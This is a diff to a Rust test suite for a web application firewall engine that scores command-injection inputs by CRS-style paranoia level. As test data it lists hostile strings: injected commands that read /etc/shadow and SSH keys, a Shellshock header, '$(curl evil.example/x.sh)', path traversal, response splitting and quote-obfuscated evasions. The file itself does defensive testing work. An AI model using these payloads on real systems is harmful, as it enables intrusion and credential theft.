@@ -892,7 +892,7 @@ fn english_word_program_and_one_path_is_paranoia_2() {
     }
     for v in [
         "x; cat /etc/shadow",
-        "x; cat -n /srv/data/report.txt",
+        "x; cat -n /srv/data/report.txt; id",
         "x; cat /srv/a.txt; rm /srv/a.txt",
         "x\ncat /root/.ssh/id_rsa",
     ] {
@@ -958,6 +958,118 @@ fn key_value_lines_in_text_are_not_response_splitting() {
         "x\r\nLocation: https://evil.example/",
         "x\nX-Forwarded-For: 127.0.0.1",
         "x\r\n\r\n<html><script>alert(1)</script>",
+    ] {
+        each_carrier(v, |carrier, a| {
+            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {v:?} -> {a:?}");
+        });
+    }
+}
+
+fn pl2_engine() -> threat_score::Engine {
+    Config {
+        paranoia_level: 2,
+        ..Config::default()
+    }
+    .compile()
+    .unwrap()
+}
+
+/// A program that is also an English word (`tar`, `find`, `sort`, `vi`) given options and
+/// plain arguments, after a separator or as the whole value, is paranoia 2, as CRS scores
+/// English command words (932236); a program no sentence uses (`ls`, `wget`), a variable,
+/// a redirection, a sensitive file or a second command keeps the line at paranoia 1.
+#[test]
+fn english_word_program_with_options_is_paranoia_2() {
+    let pl2 = pl2_engine();
+    let host = vec![("host".to_string(), "api.example".to_string())];
+    for v in [
+        "report.pdf; tar -czf /tmp/backup.tgz /srv/www",
+        "names|sort -u -r",
+        "x && find /var/www -name uploads -type d",
+        "sort -k2 -n scores.txt",
+        "tar -xzf archive.tar.gz",
+        "head -n 5 data.csv",
+        "notes; vim -R /srv/app/readme.md",
+        "a|head -n 20",
+    ] {
+        each_carrier(v, |carrier, a| {
+            assert_eq!(a.verdict, Verdict::Allow, "{carrier}: {v:?} -> {a:?}");
+        });
+        let uri = format!("/tools?q={}", enc(v));
+        let a = pl2.inspect(&Request::new("GET", &uri).with_headers(&host));
+        assert_eq!(a.verdict, Verdict::Block, "PL2: {v:?} -> {a:?}");
+    }
+    for v in [
+        "x; ls -la /srv",
+        "x; wget -q example.org/a.sh",
+        "report.pdf; tar -czf - /etc/shadow",
+        "x; head -c 64 $HOME/.bashrc",
+        "x; sort -u list > /var/www/html/x.php",
+        "x; tar -xzf a.tgz; sh ./run.sh",
+        "x; find /srv -name a; id",
+    ] {
+        each_carrier(v, |carrier, a| {
+            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {v:?} -> {a:?}");
+        });
+    }
+}
+
+/// Command lines and OS files named in the User-Agent or Referer are paranoia 2, as in CRS
+/// (930121, 932239, 932205-932207): a header is no shell argument nor a file name the
+/// application opens. Shellshock, substitution and a program alone after a separator in the
+/// Referer (`;id`: CRS 932340) still count at 1, and so does an upload-name header.
+#[test]
+fn command_lines_in_headers_are_paranoia_2() {
+    let pl2 = pl2_engine();
+    for (name, value) in [
+        ("referer", "https://shop.example/cart;ls -la"),
+        ("referer", "https://shop.example/a?next=;cat /etc/passwd"),
+        ("user-agent", "Mozilla/5.0; tail -n 5 /etc/passwd"),
+        ("user-agent", "/root/.ssh/id_rsa"),
+    ] {
+        let a = header_request(name, value);
+        assert_eq!(a.verdict, Verdict::Allow, "{name}: {value:?} -> {a:?}");
+        let hs = vec![
+            ("host".to_string(), "www.example".to_string()),
+            (name.to_string(), value.to_string()),
+        ];
+        let a = pl2.inspect(&Request::new("GET", "/").with_headers(&hs));
+        assert_eq!(a.verdict, Verdict::Block, "PL2 {name}: {value:?} -> {a:?}");
+    }
+    for (name, value) in [
+        ("referer", "https://shop.example/a?next=;whoami"),
+        ("referer", "https://shop.example/a|id"),
+        ("user-agent", "() { :; }; echo; /usr/bin/id"),
+        ("user-agent", "$(curl evil.example/x.sh)"),
+        ("x-filename", "../../../../etc/passwd"),
+    ] {
+        let a = header_request(name, value);
+        assert_eq!(a.verdict, Verdict::Block, "{name}: {value:?} -> {a:?}");
+    }
+}
+
+/// A prefix word spelled with quotes (`ti''me`, `ti""me`) runs nothing by itself: the
+/// command it prefixes decides the level. A program and its target after it is paranoia 2;
+/// a quote-spelled program or a prefixed command keeps paranoia 1.
+#[test]
+fn quoted_prefix_word_is_judged_by_its_command() {
+    let pl2 = pl2_engine();
+    let host = vec![("host".to_string(), "api.example".to_string())];
+    for v in [
+        "ti''me ping status.example.org",
+        "ti\"\"me dig mail.example.org",
+    ] {
+        each_carrier(v, |carrier, a| {
+            assert_eq!(a.verdict, Verdict::Allow, "{carrier}: {v:?} -> {a:?}");
+        });
+        let uri = format!("/tools?q={}", enc(v));
+        let a = pl2.inspect(&Request::new("GET", &uri).with_headers(&host));
+        assert_eq!(a.verdict, Verdict::Block, "PL2: {v:?} -> {a:?}");
+    }
+    for v in [
+        "ti''me c''url example.net/x.sh",
+        "su''do reboot",
+        "x;ti''me wget example.net/x",
     ] {
         each_carrier(v, |carrier, a| {
             assert_eq!(a.verdict, Verdict::Block, "{carrier}: {v:?} -> {a:?}");
